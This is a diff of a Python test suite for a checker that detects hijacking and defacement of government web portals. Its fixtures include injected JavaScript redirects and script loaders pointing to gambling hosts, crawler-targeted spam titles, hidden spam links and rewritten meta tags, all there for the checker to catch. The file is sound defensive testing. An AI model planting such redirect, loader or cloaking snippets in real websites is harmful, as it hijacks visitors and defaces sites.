@@ -1,5 +1,6 @@
 """The hijack check (security.hijack) on hand-built snapshots of real-world defacements."""
 
+import re
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -54,9 +55,14 @@ def snap_of(
     return snap
 
 
-def run(*pages: Page, **kw: Any) -> list[Finding]:
+def run_all(*pages: Page, **kw: Any) -> list[Finding]:
     site = kw.get("site", SITE)
     return check(snap_of(*pages, **kw), ctx(site))
+
+
+def run(*pages: Page, **kw: Any) -> list[Finding]:
+    """The security.hijack findings (the third-party inventory notice is tested on its own)."""
+    return [f for f in run_all(*pages, **kw) if f.code == "security.hijack"]
 
 
 def kinds(findings: list[Finding]) -> dict[str, Finding]:
@@ -167,11 +173,22 @@ def test_stylesheet_hidden_spam() -> None:
 
 
 def test_obfuscated_scripts() -> None:
-    found = kinds(run(parsed("article_scripts.html", HOME + "a/t20191001_3.html")))
+    page = parsed("article_scripts.html", HOME + "a/t20191001_3.html")
+    findings = run_all(page)
+    found = kinds([f for f in findings if f.code == "security.hijack"])
     assert set(found) == {"js_redirect"}
     evidence = found["js_redirect"].evidence
-    assert evidence["count"] == 5 and evidence["decoded"] == ["unescape"]
-    assert evidence["target"] == "http://js.tjcnzz8.com/tj.js"
+    # redirects (fromCharCode, referrer check, setTimeout) and the written 0x0 iframe of a casino host
+    assert evidence["count"] == 4 and evidence["decoded"] == ["fromCharCode"]
+    assert evidence["target"] == "http://www.hg0088vip.com/"
+    assert "http://www.ag8808.com/" in evidence["targets"]
+    # a script written by document.write from an unknown host is inventory, not a veto by itself
+    assert "http://js.tjcnzz8.com/tj.js" not in evidence["targets"]
+    inventory = next(f for f in findings if f.code == "security.third_party")
+    assert inventory.severity == "notice"
+    row = next(r for r in inventory.evidence["scripts"] if r["host"] == "js.tjcnzz8.com")
+    assert row["loaded"] == ["document.write"] and row["known"] == ""
+    assert "js.tjcnzz8.com" in inventory.evidence["unknown_hosts"]
 
 
 def test_referrer_check_with_unresolvable_target_fires() -> None:
@@ -256,14 +273,24 @@ def test_hidden_link_rules() -> None:
         "</div>"
     )
     assert run(html_page(body)) == []
-    planted = html_page(
+    # Hidden is not harmful: a hidden link to an unknown commercial host with neutral words, or
+    # an outlet's link in a one-pixel box, is listed in the inventory notice, not vetoed.
+    neutral = html_page(
         '<div style="display:none"><a href="http://www.k8k8.cc/">点击进入</a></div>'
-    )
-    assert kinds(run(planted))["hidden_link"].evidence["domains"] == ["k8k8.cc"]
-    tiny = html_page(
         '<div style="height:1px;overflow:hidden"><a href="http://www.hnrb.com.cn/">淮南日报</a></div>'
     )
-    assert kinds(run(tiny))["hidden_link"].evidence["technique"] == "zero_size"
+    findings = run_all(neutral)
+    assert [f.code for f in findings] == ["security.third_party"]
+    listed = {r["domain"]: r for r in findings[0].evidence["hidden_links"]}
+    assert set(listed) == {"k8k8.cc", "hnrb.com.cn"} and listed["hnrb.com.cn"]["technique"] == "zero_size"
+    # Spam words on the link, or a casino host, make it a dark link.
+    worded = html_page('<div style="display:none"><a href="http://www.k8k8.cc/">开云体育官网</a></div>')
+    assert kinds(run(worded))["hidden_link"].evidence["domains"] == ["k8k8.cc"]
+    casino = html_page(
+        '<div style="height:1px;overflow:hidden"><a href="http://www.xpj8888.com/">点击进入</a></div>'
+    )
+    hit = kinds(run(casino))["hidden_link"].evidence
+    assert hit["technique"] == "zero_size" and hit["sample"][0]["host_signals"] == ["xpj8888"]
     slide = html_page(
         '<li style="display:none"><a href="http://www.ahtv.cn/zt/"><img src="/b.jpg"></a></li>'
     )
@@ -275,8 +302,9 @@ def test_hidden_link_rules() -> None:
 
 
 def test_registry_can_trust_more_domains() -> None:
-    page = html_page('<div style="display:none"><a href="http://www.k8k8.cc/">点击进入</a></div>')
-    site = SiteEntry(name=SITE.name, url=HOME, overrides={"hijack_allow_domains": ["k8k8.cc"]})
+    page = html_page('<div style="display:none"><a href="http://www.xpj8888.com/">点击进入</a></div>')
+    assert kinds(run(page))["hidden_link"]
+    site = SiteEntry(name=SITE.name, url=HOME, overrides={"hijack_allow_domains": ["xpj8888.com"]})
     assert run(page, site=site) == []
 
 
@@ -312,10 +340,13 @@ def test_search_referer_redirected_to_another_host() -> None:
 
 def test_spider_sees_new_foreign_links() -> None:
     links = [HOME + "zwgk/", "http://www.people.com.cn/"] + [
-        f"http://www.spam{i}.com/" for i in range(4)
+        f"http://www.xpj{i}888.com/" for i in range(4)
     ]
     finding = kinds(run(home=normal_home(), probes=[probe(links=links)]))["cloaking"]
     assert finding.evidence["new_link_count"] == 4
+    # a recommendation widget that shows other articles on each fetch is not cloaking
+    rotated = [f"http://www.xinhuanet.com/politics/2019-10/{i}.htm" for i in range(6)]
+    assert run(home=normal_home(), probes=[probe(links=rotated)]) == []
 
 
 def test_spider_only_hidden_link_and_script() -> None:
@@ -406,6 +437,217 @@ def test_judge_foreign() -> None:
     assert judge.foreign("http://www.am8899.com/x") == "am8899.com"
     assert judge.foreign(HOME + "x") is None
     assert judge.foreign("http://zwfw.huainan.gov.cn/") is None
-    assert judge.foreign("https://s4.cnzz.com/z.js") is None
+    # statistics hosts are foreign (no list decides a judgement) but carry no spam marks
+    assert judge.foreign("https://s4.cnzz.com/z.js") == "cnzz.com"
+    assert judge.bad_host("https://s4.cnzz.com/z.js") == []
+    assert judge.third_party.category("s4.cnzz.com") == "analytics"
+    assert judge.third_party.category("cloud.wza.example.com") == "accessibility"
+    assert judge.bad_host("http://www.pj-casino8.com/") == ["casino"]
     assert judge.foreign("javascript:void(0)") is None
     assert judge.foreign("http://[bad") is None
+
+
+# --- issue 8: what real portals load and hide, and spam as it really appears ------------------
+
+# Written like the scripts and widgets of real portals (sources in data/hijack/thirdparty.yaml):
+# a CMS vendor's boot script on a cloud host that is on no list, statistics by createElement
+# and document.write, a share widget whose loader is appended by script, the national
+# error-reporting widget, an accessibility toolbar.
+ORDINARY = (
+    '<script>(function(){var s=document.createElement("script");'
+    's.src="https://static.cmsvendor-cloud.com/boot/site.js?v=3";'
+    'document.getElementsByTagName("head")[0].appendChild(s);})();</script>'
+    '<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");'
+    'hm.src="https://hm.baidu.com/hm.js?0a1b2c";var f=document.getElementsByTagName("script")[0];'
+    "f.parentNode.insertBefore(hm,f);})();</script>"
+    "<script>document.write(unescape(\"%3Cscript src='https://js.users.51.la/9.js'%3E%3C/script%3E\"));</script>"
+    "<script>window._bd_share_config={common:{}};var h=document.getElementsByTagName('head')[0];"
+    "h.appendChild(document.createElement('script')).src='http://bdimg.share.baidu.com/static/api/js/share.js?v='+(+new Date());</script>"
+    '<script id="_jiucuo_" sitecode="3404000001" src="https://pucha.kaipuyun.cn/exposure/jiucuo.js"></script>'
+    '<script src="https://wza.someassist.cn/toolbar.js"></script>'
+)
+# Menus, tabs and slides hiding links to official sites, several of them outside *.gov.cn.
+MENUS = (
+    '<ul class="drop" style="display:none"><li><a href="https://www.12377.cn/">中国互联网违法和不良信息举报中心</a></li>'
+    '<li><a href="https://gjzwfw.www.gov.cn/">国家政务服务平台</a></li><li><a href="http://www.wenming.cn/">中国文明网</a></li></ul>'
+    '<div class="panel" style="position:absolute;left:-9999px"><a href="https://www.12321.cn/">12321举报受理中心</a>'
+    '<a href="http://www.xinhuanet.com/politics/">新华网时政</a></div>'
+    '<li style="display:none"><a href="http://www.people.com.cn/"><img src="/b.jpg" alt="人民网专题"></a></li>'
+)
+
+
+def test_ordinary_scripts_and_hidden_official_menus_are_inventory_not_hijack() -> None:
+    page = html_page(f"<p>政务要闻</p>{MENUS}{ORDINARY}")
+    findings = run_all(page)
+    assert [f.code for f in findings] == ["security.third_party"]
+    inventory = findings[0]
+    assert inventory.severity == "notice" and "未发现恶意行为" in inventory.message
+    scripts = {r["host"]: r for r in inventory.evidence["scripts"]}
+    assert scripts["static.cmsvendor-cloud.com"]["loaded"] == ["createElement"]
+    assert scripts["static.cmsvendor-cloud.com"]["known"] == ""  # on no list, still no veto
+    assert scripts["hm.baidu.com"]["known"] == "analytics"
+    assert scripts["js.users.51.la"]["loaded"] == ["document.write"]
+    assert scripts["bdimg.share.baidu.com"]["known"] == "share"
+    assert scripts["pucha.kaipuyun.cn"] == {**scripts["pucha.kaipuyun.cn"], "loaded": ["src"], "known": "error_report"}
+    assert scripts["wza.someassist.cn"]["known"] == "accessibility"
+    hidden = {r["domain"] for r in inventory.evidence["hidden_links"]}
+    assert hidden == {"12377.cn", "wenming.cn", "12321.cn", "xinhuanet.com", "people.com.cn"}
+
+
+def test_judgements_do_not_depend_on_the_third_party_list(monkeypatch: pytest.MonkeyPatch) -> None:
+    from govinspect.checks import hijack
+
+    pages = [
+        html_page(f"<p>政务要闻</p>{MENUS}{ORDINARY}"),
+        parsed("article_scripts.html", HOME + "a/t20191001_3.html"),
+        parsed("article_marquee.html", HOME + "zwgk/tzgg/201910/t20191008_1.html"),
+    ]
+    before = [(f.url, f.evidence["kind"]) for f in run(*pages, home=parsed("home_defaced.html"))]
+    monkeypatch.setattr(hijack, "_third_party", lambda: hijack.ThirdParty({}, {}))
+    after = [(f.url, f.evidence["kind"]) for f in run(*pages, home=parsed("home_defaced.html"))]
+    assert before == after and before
+
+
+def test_adding_ordinary_scripts_changes_no_judgement() -> None:
+    for name, url in (("home_defaced.html", HOME), ("article_scripts.html", HOME + "a/1.html"),
+                      ("home_clean.html", HOME)):  # fmt: skip
+        html = (FIXTURES / name).read_text(encoding="utf-8")
+        plain = Page(url=url, final_url=url, status=200, content_type="text/html")
+        extract_page(plain, html, AS_OF)
+        busy = Page(url=url, final_url=url, status=200, content_type="text/html")
+        extract_page(busy, html.replace("</body>", MENUS + ORDINARY + "</body>"), AS_OF)
+        kinds_of = [sorted(f.evidence["kind"] for f in run(home=p)) for p in (plain, busy)]
+        assert kinds_of[0] == kinds_of[1], name
+
+
+def test_home_title_and_meta_rewritten_while_the_body_is_untouched() -> None:
+    head = (
+        "<title>米乐·体育(中国)官方网站-米乐m6体育app下载</title>"
+        '<meta name="keywords" content="米乐体育,米乐app下载,米乐官网登录入口">'
+        '<script>if(!/spider|bot/i.test(navigator.userAgent)){document.title="淮南市人民政府";}</script>'
+    )
+    html = (FIXTURES / "home_clean.html").read_text(encoding="utf-8")
+    html = re.sub(r"<title>.*?</title>", head, html, count=1, flags=re.S)
+    home = Page(url=HOME, final_url=HOME, status=200, content_type="text/html")
+    extract_page(home, html, AS_OF)
+    found = kinds(run(home=home))
+    assert set(found) == {"tamper"}
+    evidence = found["tamper"].evidence
+    assert evidence["fields"] == ["title", "meta"] and any("米乐" in w for w in evidence["words"])
+    assert "首页标题和关键词被篡改" in found["tamper"].message
+
+
+def test_repeated_brand_block_in_an_article() -> None:
+    block = "_".join(["乐鱼体育app下载", "乐鱼·体育(中国)官方网站", "乐鱼体育全站app"] * 10)
+    page = html_page(f'<p>全市召开安全生产工作会议。</p><div style="display:none">{block}</div>')
+    found = kinds(run(page))
+    assert set(found) == {"keyword"}  # hidden text without links is spam, not a dark link
+    evidence = found["keyword"].evidence
+    assert "certain" in evidence["reasons"] and evidence["repeated"] >= 20
+    assert evidence["categories"] == ["博彩"]
+
+
+def test_anti_gambling_campaign_page_with_brand_names_stays_clean() -> None:
+    text = ("严禁参与赌博。近期“乐鱼体育”“开云体育app下载”等境外赌博网站通过短信引流，"
+            "公安机关提醒广大群众提高警惕，反诈宣传进校园、进社区，发现线索及时举报。")
+    page = html_page(f"<p>{text}</p>", head="<meta name='keywords' content='打击赌博,反诈宣传'>")
+    assert run(page) == []
+
+
+def test_scripts_are_hijack_only_with_evidence_of_harm() -> None:
+    redirect = html_page("<script>setTimeout(function(){top.location.href='http://www.qp-play9.com/';},500)</script>")
+    assert kinds(run(redirect))["js_redirect"].evidence["target"] == "http://www.qp-play9.com/"
+    onclick = html_page(
+        "<button onclick=\"window.location.href='http://www.some-mall.com/'\">积分商城</button>"
+    )
+    assert run(onclick) == []  # navigation on a click is a link, not a redirect
+    injected = html_page(
+        "<script>var s=document.createElement('script');s.src='http://cdn.tj-stat9.com/a.js';"
+        "document.body.appendChild(s);</script>"
+    )
+    assert run(injected) == []
+    casino = html_page(
+        "<script>var s=document.createElement('script');s.src='http://www.bob5918.com/bob.js';"
+        "document.body.appendChild(s);</script>"
+    )
+    assert kinds(run(casino))["js_redirect"].evidence["target"] == "http://www.bob5918.com/bob.js"
+
+
+def test_a_host_the_harmful_link_probe_classified_makes_its_script_a_hijack() -> None:
+    page = html_page(
+        "<script>var s=document.createElement('script');s.src='http://cdn.tj-stat9.com/a.js';"
+        "document.body.appendChild(s);</script>"
+    )
+    snap = snap_of(page)
+    snap.probes["harmful"] = [{"url": "http://cdn.tj-stat9.com/", "kind": "gambling", "words": ["澳门葡京"]}]
+    found = kinds([f for f in check(snap, ctx()) if f.code == "security.hijack"])
+    assert found["js_redirect"].evidence["target"] == "http://cdn.tj-stat9.com/a.js"
+
+
+def test_many_links_to_one_news_site_are_not_tampering() -> None:
+    links = [Link(f"http://www.xinhuanet.com/politics/{i}.htm", f"新华社电讯{i}") for i in range(40)]
+    assert run(Page(url=HOME + "zz/index.html", status=200, links=links)) == []
+
+
+def test_spider_sees_a_brand_title_the_lexicon_alone_would_miss() -> None:
+    view = probe(title="乐鱼·体育(中国)官方网站-登录入口", text="乐鱼体育app下载 乐鱼体育官网")
+    finding = kinds(run(home=normal_home(), probes=[view]))["cloaking"]
+    assert any("乐鱼" in w for w in finding.evidence["words"])
+
+
+def test_home_page_replaced_by_a_hackers_page() -> None:
+    black = Page(url=HOME, final_url=HOME, status=200, title="Hacked By Shadow Team",
+                 text="Hacked By Shadow Team 管理员你好，你的网站漏洞太多了 QQ:12345678")  # fmt: skip
+    found = kinds(run(home=black))
+    assert set(found) == {"tamper"} and "hacked by" in found["tamper"].evidence["defaced"]
+    scribbled = Page(url=HOME, final_url=HOME, status=200, title="淮南市人民政府", text="黑客到此一游")
+    assert kinds(run(home=scribbled))["tamper"].evidence["fields"] == ["text"]
+
+
+def test_news_about_attacks_is_not_a_hackers_page() -> None:
+    article = Page(url=HOME + "a/2.html", final_url=HOME + "a/2.html", status=200,
+                   title="我市开展网络安全攻防演练 防范黑客入侵",
+                   text="演练模拟门户网站被黑客入侵后的应急处置。" * 5)  # fmt: skip
+    english = Page(url=HOME + "en/1.html", final_url=HOME + "en/1.html", status=200, title="News",
+                   text="Officials said the database was hacked by criminals last year. " * 80)  # fmt: skip
+    home = Page(url=HOME, final_url=HOME, status=200, title="淮南市人民政府",
+                text="网络安全宣传周：依法打击黑客入侵等违法犯罪。")  # fmt: skip
+    assert run(article, english, home=home) == []
+
+
+def test_an_onload_redirect_is_automatic_an_onclick_one_is_not() -> None:
+    onload = Page(url=HOME + "a/9.html", final_url=HOME + "a/9.html", status=200, content_type="text/html")
+    html = "<html><body onload=\"location.href='http://www.qp-play9.com/'\"><p>x</p></body></html>"
+    extract_page(onload, html, AS_OF)
+    assert kinds(run(onload))["js_redirect"].evidence["target"] == "http://www.qp-play9.com/"
+    onclick = html_page("<a href='#' onclick=\"location.href='http://www.qp-play9.com/'\">进入</a>")
+    assert run(onclick) == []
+
+
+def test_a_script_that_writes_a_spam_title_for_spiders() -> None:
+    escaped = "".join(f"\\u{ord(c):04x}" for c in "乐鱼体育(中国)官方网站")
+    page = html_page(
+        "<p>政务要闻</p><script>if(/baiduspider/i.test(navigator.userAgent)){document.title="
+        f"\"{escaped}\";}}</script>"
+    )
+    finding = kinds(run(page))["js_redirect"]
+    assert finding.evidence["technique"] == "write_spam" and "脚本写入违规文字" in finding.message
+    footer = html_page("<script>document.write('<p>主办：淮南市人民政府办公室 严厉打击网络赌博 远离百家乐</p>');</script>")
+    assert run(footer) == []  # a footer written by script, an anti-gambling slogan
+
+
+@pytest.mark.parametrize(
+    "probe_data",
+    [
+        {"http://cdn.tj-stat9.com/": {"kind": "porn", "words": ["成人视频"]}},
+        {"targets": [{"target": "http://x.example/", "final_url": "http://cdn.tj-stat9.com/", "verdict": {"kind": "fraud"}}]},
+        [{"url": "http://cdn.tj-stat9.com/", "harmful": True}],
+    ],
+)
+def test_harmful_probe_layouts(probe_data: Any) -> None:
+    page = html_page("<script>var s=document.createElement('script');s.src='http://cdn.tj-stat9.com/a.js';</script>")
+    snap = snap_of(page)
+    snap.probes["harmful"] = probe_data
+    assert [f.evidence["kind"] for f in check(snap, ctx()) if f.code == "security.hijack"] == ["js_redirect"]
+    snap.probes["harmful"] = [{"url": "http://cdn.tj-stat9.com/", "kind": None}]  # fetched, not spam
+    assert [f for f in check(snap, ctx()) if f.code == "security.hijack"] == []
